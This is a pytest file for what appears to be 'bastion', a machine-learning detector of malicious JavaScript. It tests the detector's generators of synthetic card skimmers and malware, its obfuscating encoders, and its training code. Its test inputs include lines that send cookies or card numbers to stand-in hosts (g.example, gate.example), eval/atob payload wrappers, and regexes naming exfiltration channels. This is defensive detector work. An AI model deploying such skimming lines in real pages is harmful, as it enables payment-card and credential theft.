"""Generators, wrappers, training-side arithmetic (text only: nothing generated is run)."""

from __future__ import annotations

import base64
import random
import re

import numpy as np

from bastion.scripts import features as F
from bastion.scripts.datagen import benign, encoders, inject, malware, miners, skimmers
from bastion.scripts.datagen.corpus import Item
from bastion.scripts.dataset import featurize_items, windows_of
from bastion.scripts.fingerprint import pipeline_fingerprint
from bastion.scripts.model import HEADS, Model, ModelWeights, featurizer_fingerprint
from bastion.scripts.source import prepare
from bastion.scripts.train import assign_folds, calibration_knots, predict_logits
from bastion.scripts.tree import parse, parse_many


def test_generated_code_parses_cleanly() -> None:
    rng = random.Random(3)
    for gen in (skimmers.generate, miners.generate, malware.generate, benign.generate):
        for _ in range(40):
            code = gen(rng)
            tree = parse_many(prepare(code.encode()).chunks)  # some are HTML snippets
            assert tree.errors == 0, code


def test_skimmers_vary() -> None:
    rng = random.Random(5)
    codes = {skimmers.generate(rng) for _ in range(50)}
    assert len(codes) == 50
    exfil = re.compile(
        r"Image\(\)|XMLHttpRequest|fetch\(|sendBeacon|\.ajax|\.post|WebSocket|iframe|script"
    )
    assert all(exfil.search(c) for c in codes)


def test_decodable_wrappers_expose_the_payload_to_the_featurizer() -> None:
    rng = random.Random(1)
    payload = "document.getElementById('cc_number').addEventListener('blur', grab);"
    marker = int(F._mix(F.GROUP_EXTRA, np.array([F.token_hash("\x02nested-code")], np.uint64))[0])
    for enc in (encoders.eval_atob, encoders.charcodes, encoders.hex_escape, encoders.percent):
        wrapped = enc(payload, rng)
        fs = F.Featurizer().featurize(parse(wrapped.encode()))
        assert any(marker in set(ids.tolist()) for ids, _ in fs.groups), enc.__name__


def test_packer_output_keeps_words_in_its_dictionary() -> None:
    packed = encoders.packer("var cardNumber = form.cc_number.value;", random.Random(0))
    assert packed.startswith("eval(function(p,a,c,k,e,d)")
    assert "cardNumber" in packed and parse(packed.encode()).errors == 0


def test_cipher_is_not_plain_text() -> None:
    out = encoders.cipher("var secret = document.cookie;", random.Random(2))
    assert "document.cookie" not in out and parse(out.encode()).errors == 0


def test_inject_keeps_library_and_snippet() -> None:
    lib = "function a() {\n  return 1;\n}\nvar b = a();\nconsole.log(b);\n" * 20
    for seed in range(10):
        out = inject.inject(lib, "STEAL();", random.Random(seed))
        assert "STEAL();" in out and len(out) > len(lib)


def test_folds_hold_groups_out_whole() -> None:
    items = [
        Item(f"i{n}", b"", label, f"{label}/{n % 7}", "real")
        for n, label in enumerate(["benign", "magecart", "malware"] * 30)
    ]
    folds = assign_folds(items, 5)
    assert set(folds.values()) <= set(range(5))
    per_label = {
        lab: {folds[it.group] for it in items if it.label == lab} for lab in ("benign", "magecart")
    }
    assert all(len(v) > 1 for v in per_label.values())  # groups of a label spread over folds


def test_calibration_knots_are_monotone_and_anchor_the_threshold() -> None:
    rng = np.random.default_rng(0)
    benign_logits = rng.normal(-6, 1.5, 5000).astype(np.float32)
    xs, ys = calibration_knots(benign_logits, 0.002)
    assert np.all(np.diff(xs) > 0) and np.all(np.diff(ys) > 0)
    thr = xs[list(ys).index(np.float32(0.5))]
    assert abs(float(np.mean(benign_logits > thr)) - 0.002) < 0.001


def test_windows_of() -> None:
    item_ptr = np.array([0, 1, 4], np.int64)  # item 0: one half, item 1: three halves
    a, b, owner = windows_of(item_ptr, np.array([0, 1], np.int64))
    assert a.tolist() == [0, 1, 2] and b.tolist() == [-1, 2, 3] and owner.tolist() == [0, 1, 1]


def test_training_bags_reproduce_the_inference_forward_pass() -> None:
    rng = np.random.default_rng(1)
    hidden = 8
    w = ModelWeights(
        emb=rng.normal(0, 0.3, (1 << F.BITS, hidden)).astype(np.float16).astype(np.float32),
        b1=rng.normal(0, 0.1, hidden).astype(np.float32),
        w2=rng.normal(0, 0.5, (len(HEADS), hidden)).astype(np.float32),
        b2=np.zeros(len(HEADS), np.float32),
        calib_x=[np.array([-1.0, 1.0], np.float32)] * len(HEADS),
        calib_y=[np.array([0.0, 1.0], np.float32)] * len(HEADS),
        meta={"featurizer": featurizer_fingerprint(), "pipeline": pipeline_fingerprint()},
    )
    lib = "function f(a, b) { return a.map(function (x) { return x + b; }); }\n" * 150
    texts = [
        b"var a = 1;",
        (lib + "new Image().src = 'https://g.example/?' + btoa(document.cookie);").encode(),
        b"eval(atob('" + base64.b64encode(b"document.forms[0].submit();") + b"'));",
    ]
    bags = featurize_items(texts)
    model = Model(ModelWeights.from_bytes(w.to_bytes()), "test")
    got = predict_logits(model.weights, bags, np.arange(len(texts), dtype=np.int64))
    for n, t in enumerate(texts):
        want = model.logits(F.Featurizer().featurize(parse(t)))
        np.testing.assert_allclose(got[n], want, rtol=1e-4, atol=1e-3)


def test_nearest_version_stays_in_the_major() -> None:
    from bastion.scripts.datagen.npmfetch import nearest_version

    versions = ["5.0.0-beta4", "5.1.0", "5.2.1", "5.3.0", "4.9.9", "6.0.0"]
    assert nearest_version("5.2.0", versions) == "5.2.1"
    assert nearest_version("5.9.0", versions) == "5.3.0"
    assert nearest_version("7.0.0", versions) is None


def test_lite_obfuscation_renames_splits_and_still_parses() -> None:
    from bastion.scripts.datagen.lite_obf import lite_obfuscate

    rng = random.Random(11)
    code = (
        "var collected = document.getElementById('billing_cc_number').value;\n"
        "function sendIt(payload) { new Image().src = 'https://gate.example/c?d=' + payload; }\n"
        "sendIt(collected);\n"
    )
    out = lite_obfuscate(code, rng)
    assert "collected" not in out and "sendIt" not in out  # declared names renamed
    assert "document" in out  # globals kept
    assert parse(out.encode()).errors == 0


def test_training_is_deterministic() -> None:
    from dataclasses import replace

    from bastion.scripts.train import TrainConfig, fit

    rng = random.Random(0)
    texts, items = [], []
    makers = [
        ("magecart", skimmers.generate),
        ("benign", benign.generate),
        ("malware", malware.generate),
    ]
    for n, (label, gen) in enumerate(makers * 4):
        texts.append(gen(rng).encode())
        items.append(Item(f"i{n}", texts[-1], label, f"g{n}", "generated"))
    bags = featurize_items(texts)
    config = replace(TrainConfig(), epochs=1, batch_size=4, hidden=4)
    idx = np.arange(len(items), dtype=np.int64)
    first = fit(bags, items, idx, config, log=lambda m: None)
    second = fit(bags, items, idx, config, log=lambda m: None)
    assert first.to_bytes() == second.to_bytes()


def test_new_skimmer_and_malware_styles_parse_and_keep_their_behaviour() -> None:
    rng = random.Random(11)
    checks = {
        skimmers.keylogger_skimmer: re.compile(r"addEventListener"),
        skimmers.loader: re.compile(r"script|eval|Function|scr' \+ 'ipt"),
        skimmers.api_hook_skimmer: re.compile(r"prototype\.send|window\.fetch|prototype\.submit"),
        skimmers.deferred_skimmer: re.compile(r"Storage\.setItem"),
        malware.wsh_obfuscated: re.compile(r"SaveToFile"),
        malware.decoder_landing: re.compile(r"fromCharCode\(parseInt"),
        malware.eval_chain: re.compile(r"\['(?:e|ev|eva)' \+ '(?:val|al|l)'\]"),
        malware.seo_spam: re.compile(r"document\.write"),
    }
    for make, pattern in checks.items():
        for _ in range(30):
            code = make(rng)
            assert parse(code.encode()).errors == 0, code
            assert pattern.search(code), (make.__name__, code)


def test_url_expr_forms_all_parse() -> None:
    rng = random.Random(4)
    for _ in range(50):
        expr = skimmers.url_expr(rng, "https://cdn-stat.example/gate.php")
        assert parse(f"var u = {expr};".encode()).errors == 0, expr
